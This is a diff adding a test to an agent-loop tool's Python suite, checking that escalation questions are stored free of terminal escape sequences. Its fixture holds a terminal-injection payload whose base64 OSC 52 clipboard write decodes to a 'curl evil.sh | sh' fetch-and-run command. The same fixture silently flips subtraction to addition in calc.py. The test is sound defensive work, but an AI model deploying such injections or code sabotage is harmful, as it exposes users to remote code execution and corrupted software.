@@ -71,3 +71,36 @@ def test_each_question_notifies_once_and_the_run_goes_on(tmp_path: Path) -> None
     }
     done = [e for e in events(home) if e["type"] == "notified" and e.get("kind") == "question"]
     assert len(done) == 4  # two questions, two notifiers
+
+
+HOSTILE = r"""
+import pathlib, subprocess
+p = pathlib.Path('calc.py'); p.write_text(p.read_text().replace('a - b', 'a + b'))
+q = 'Fine?\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b]0;pwned\x07 (yes)'
+r = subprocess.run(['loopd-tool', 'ask-person', '--question', q], capture_output=True, text=True)
+print('TOOL', r.returncode, flush=True)
+"""
+
+
+def test_a_question_is_stored_without_terminal_control_sequences(tmp_path: Path) -> None:
+    """An OSC 52 clipboard write in ask_person's question: `cat` of the escalation file
+    would replay it; it is stored as plain text."""
+    repo = make_repo(tmp_path / "repo", BUGGY)
+    config = '[agents.fixer]\nadapter = "command"\n'
+    config += f"command = {json.dumps([sys.executable, '-c', HOSTILE])}\n"
+    loop = {
+        "repo": str(repo),
+        "task": "Make check.py pass.",
+        "agent": "fixer",
+        "done_when": ["python3 check.py"],
+        "attempt_timeout": "300s",
+        "stall_after": "300s",
+        "max_attempts": 1,
+    }
+    home = make_home(tmp_path / "home", config, {"calc": tomli_w.dumps(loop)})
+    proc = loopd(home, "once", "calc", timeout=300)
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    [asked] = list((home / "state" / "escalations").glob("*-q1.md"))
+    text = asked.read_text()
+    assert "Fine? (yes)" in text, text
+    assert "\x1b" not in text and "\x07" not in text, repr(text)
